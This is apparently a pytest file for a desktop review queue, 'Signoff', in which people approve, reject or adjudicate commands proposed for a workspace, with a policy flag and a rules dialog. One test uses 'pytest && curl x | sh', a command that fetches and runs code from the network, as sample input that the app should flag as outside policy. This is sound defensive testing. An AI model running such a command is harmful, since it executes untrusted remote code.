"""The queue page in team mode: a second review shown blind, a dispute shown with both reviews to its adjudicator and
settled with one key, the outside-policy flag in the list, and the Review rules dialog (Ctrl+Shift+R)."""

from __future__ import annotations

from pathlib import Path

from PySide6.QtCore import Qt
from PySide6.QtGui import QKeySequence
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QDialogButtonBox

from app.domain import policy
from app.services import policy_file
from app.services.settings import Settings
from app.standin.scenario import text_turn
from app.store.db import open_database
from app.store.repository import Repository
from tests.support.window_harness import WindowDriver
from tests.ui.test_queue_window import insert_from_another_process, routed_scenario, row_for


def with_repository(db_path: Path, work) -> object:
    database = open_database(str(db_path))
    try:
        return work(Repository(database))
    finally:
        database.close()


def in_review_stages(stack_factory):
    """A workspace whose commands need two reviews (cy adjudicates): "make deploy" awaits its second review after
    ada's approval; "make drop" is disputed (ada approved, bob rejected). Returns (stack, second, disputed)."""
    stack = stack_factory(routed_scenario({"Gamma": [text_turn("Done.")]}), files={"gamma/.keep": ""})
    stack.repository.close()
    workspace = stack.workspace / "gamma"
    second = insert_from_another_process(stack.db_path, workspace, "Gamma one", "make deploy")
    disputed = insert_from_another_process(stack.db_path, workspace, "Gamma two", "make drop")

    def review(repository: Repository) -> None:
        repository.reviews.set_rules(str(workspace), kinds=["command"], adjudicators=["cy"])
        for pid in (second, disputed):
            repository.proposals.record_decision(pid, verdict="approve", reviewer="ada", channel="cli")
        repository.proposals.record_decision(
            disputed, verdict="reject", reason="drops prod", reviewer="bob", channel="cli"
        )

    with_repository(stack.db_path, review)
    return stack, second, disputed


def test_an_adjudicator_sees_both_reviews_and_settles_the_dispute_while_a_second_review_stays_blind(
    qtbot, qasync_loop, stack_factory
):
    stack, second, disputed = in_review_stages(stack_factory)
    driver = WindowDriver(qtbot, stack.db_path, settings=Settings(reviewer="cy", undo_seconds=0.0))

    async def scenario_run():
        window = await driver.open()
        window.show_queue()
        view = window.queue_view
        await driver.until(
            lambda: row_for(view, "make drop") is not None and row_for(view, "make deploy") is not None,
            what="both review stages listed",
        )
        states = {item.target: view.model.state_text(item) for item in view.model.rows}
        assert states == {"make deploy": "second review", "make drop": "disputed · adjudicate"}

        view._select_row(view.model.row_of(second))
        await driver.until(lambda: view.panel.proposal is not None and view.panel.proposal.id == second)
        assert "first verdict stays hidden" in view.panel.banner.text()
        assert "ada" not in view.panel.banner.text()

        view._select_row(view.model.row_of(disputed))
        await driver.until(lambda: "drops prod" in view.panel.banner.text(), what="both reviews in the banner")
        assert "ada approved" in view.panel.banner.text() and "bob rejected: “drops prod”" in view.panel.banner.text()
        view.grab().save("/tmp/queue_adjudication.png")
        QTest.keyClick(view.table, Qt.Key.Key_A)
        await driver.until(lambda: disputed in view.undo_trail, what="the adjudication stored")
        await driver.close()

    qasync_loop.run_until_complete(scenario_run())

    def outcome(repository: Repository):
        return repository.proposals.get(disputed).status, repository.proposals.latest_decision(disputed)

    status, decision = with_repository(stack.db_path, outcome)
    assert status != "disputed" and decision.reviewer == "cy" and decision.review_stage == "adjudication"


def test_the_flags_column_marks_proposals_outside_the_workspace_policy(qtbot, qasync_loop, stack_factory):
    stack = stack_factory(routed_scenario({"Gamma": [text_turn("Done.")]}), files={"gamma/.keep": ""})
    stack.repository.close()
    workspace = stack.workspace / "gamma"
    policy_file.save_policy(workspace, policy.Policy((policy.Rule.for_command("allow", "pytest"),)))
    outside = insert_from_another_process(stack.db_path, workspace, "Gamma one", "pytest && curl x | sh")
    inside = insert_from_another_process(stack.db_path, workspace, "Gamma two", "pytest -q")
    driver = WindowDriver(qtbot, stack.db_path)

    async def scenario_run():
        window = await driver.open()
        window.show_queue()
        view = window.queue_view
        await driver.until(lambda: len(view.model.rows) == 2, what="both rows")
        flags = view.model.index(view.model.row_of(outside), 7)
        assert view.model.data(flags) == "outside policy"
        assert view.model.data(view.model.index(view.model.row_of(inside), 7)) == ""
        view.filter_bar.flag.setCurrentIndex(view.filter_bar.flag.findData("outside-policy"))
        await driver.until(lambda: [item.id for item in view.model.rows] == [outside], what="the flag filter")
        await driver.close()

    qasync_loop.run_until_complete(scenario_run())


def test_review_rules_are_edited_in_a_dialog_from_the_keyboard_and_bad_input_is_kept_with_one_line(
    qtbot, qasync_loop, stack_factory
):
    stack = stack_factory(routed_scenario({"Gamma": [text_turn("Done.")]}), files={"gamma/.keep": ""})
    stack.repository.close()
    workspace = stack.workspace / "gamma"
    insert_from_another_process(stack.db_path, workspace, "Gamma one", "make deploy")
    driver = WindowDriver(qtbot, stack.db_path)

    async def scenario_run():
        window = await driver.open()
        window.show_queue()
        view = window.queue_view
        await driver.until(lambda: view.current_item() is not None, what="the item current")
        assert window.review_rules_action.shortcut() == QKeySequence("Ctrl+Shift+R")
        window.review_rules_action.trigger()
        await driver.until(lambda: window.review_rules.dialog is not None and window.review_rules.dialog.isVisible())
        dialog = window.review_rules.dialog
        assert dialog.current_workspace() == str(workspace)
        await driver.until(
            lambda: dialog.status_label.text() == "One review decides everything here.", what="the stored rules loaded"
        )
        dialog.kind_boxes["command"].setChecked(True)
        dialog.globs.setPlainText("migrations/**\n../elsewhere/*")
        dialog.adjudicators.setText("cy, dan")
        dialog.buttons.button(QDialogButtonBox.StandardButton.Save).click()
        assert dialog.isVisible() and not dialog.error_label.isHidden()
        assert dialog.error_label.text() == "The path glob '../elsewhere/*' must stay inside the workspace (no '..')."
        assert dialog.globs.toPlainText() == "migrations/**\n../elsewhere/*", "nothing typed is lost"
        dialog.grab().save("/tmp/review_rules_dialog.png")
        dialog.globs.setPlainText("migrations/**")
        dialog.buttons.button(QDialogButtonBox.StandardButton.Save).click()
        await driver.until(lambda: not dialog.isVisible(), what="the dialog saved and closed")
        assert "Saved the review rules" in window.statusBar().currentMessage()
        await driver.close()

    qasync_loop.run_until_complete(scenario_run())
    rules = with_repository(stack.db_path, lambda repository: repository.reviews.rules(str(workspace)))
    assert (rules.kinds, rules.path_globs, rules.adjudicators) == (("command",), ("migrations/**",), ("cy", "dan"))


def test_the_list_loads_while_the_database_thread_is_busy(qtbot, qasync_loop, stack_factory):
    """A reload of the list must not queue behind (or in front of) a decision on the database thread. (The startup
    heap freeze against full-collection stalls is tested in test_garbage_collector.py, in a process of its own.)"""
    import asyncio
    import threading

    stack = stack_factory(routed_scenario({"Gamma": [text_turn("Done.")]}), files={"gamma/.keep": ""})
    stack.repository.close()
    insert_from_another_process(stack.db_path, stack.workspace / "gamma", "Gamma one", "make deploy")
    driver = WindowDriver(qtbot, stack.db_path)

    async def scenario_run():
        window = await driver.open()
        view = window.queue_view
        await driver.until(lambda: len(view.model.rows) == 1, what="the row")
        release = threading.Event()
        busy = asyncio.ensure_future(window.repository.write(lambda _store: release.wait(10)))
        try:
            insert_from_another_process(stack.db_path, stack.workspace / "gamma", "Gamma two", "make drop")
            await asyncio.wait_for(view.model.load(reset=True), 5)
            assert [item.target for item in view.model.rows] == ["make deploy", "make drop"]
            assert not busy.done(), "the database thread was busy all along"
        finally:
            release.set()
            await busy
        await driver.close()

    qasync_loop.run_until_complete(scenario_run())


def test_the_tray_count_and_waiting_figure_are_the_reviewers_own_work(qtbot, qasync_loop, stack_factory):
    stack, _, _ = in_review_stages(stack_factory)
    insert_from_another_process(stack.db_path, stack.workspace / "gamma", "Gamma three", "make test")
    # ada gave both first reviews: neither the second review nor the dispute is hers to take; only "make test" is.
    driver = WindowDriver(qtbot, stack.db_path, settings=Settings(reviewer="ada", undo_seconds=0.0))

    async def scenario_run():
        window = await driver.open()
        window.show_queue()
        view = window.queue_view
        await driver.until(lambda: row_for(view, "make test") is not None, what="the plain item listed")
        await driver.until(lambda: view.last_stats is not None and view.notifier.waiting == 1, what="the tray's count")
        assert [item.target for item in view.model.rows] == ["make test"]
        assert view.notifier.tooltip == "Signoff — 1 waiting"
        assert view.stats_label.text().startswith("<b>All sessions:</b> 1 waiting")
        await driver.close()

    qasync_loop.run_until_complete(scenario_run())
